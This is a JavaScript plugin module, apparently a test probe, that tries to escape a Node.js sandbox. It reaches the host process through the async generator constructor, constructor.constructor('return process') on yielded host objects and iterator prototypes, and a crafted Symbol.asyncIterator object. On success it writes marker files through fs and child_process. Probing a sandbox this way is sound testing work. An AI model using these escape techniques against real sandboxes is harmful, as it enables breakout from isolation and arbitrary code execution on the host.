// Escape attempt: async generator leaks: AsyncGeneratorFunction constructor, Symbol.asyncIterator on objects the host touches, for-await over host promises.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-async-generator',
  description: 'sandbox escape attempt: async-generator',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    attempt(notes, "asyncgen ctor", () => pwn((async function* () {}).constructor("return process")(), marker, notes, "AsyncGeneratorFunction"));
    async function* gen() { yield ctx.services(); yield ctx.container(); }
    for await (const v of gen()) attempt(notes, "value", () => pwn(v.constructor.constructor("return process")(), marker, notes, "for-await value"));
    const it = gen();
    attempt(notes, "iter proto", () => pwn(Object.getPrototypeOf(it).constructor.constructor("return process")(), marker, notes, "iterator proto"));
    const evil = { [Symbol.asyncIterator]() { attempt(notes, "iter", () => pwn(this.constructor.constructor("return process")(), marker, notes, "asyncIterator")); return { next: async () => ({ done: true }) }; } };
    attempt(notes, "send", () => __send(evil));
    return { summary: notes.join(' | '), data: notes };
  },
};
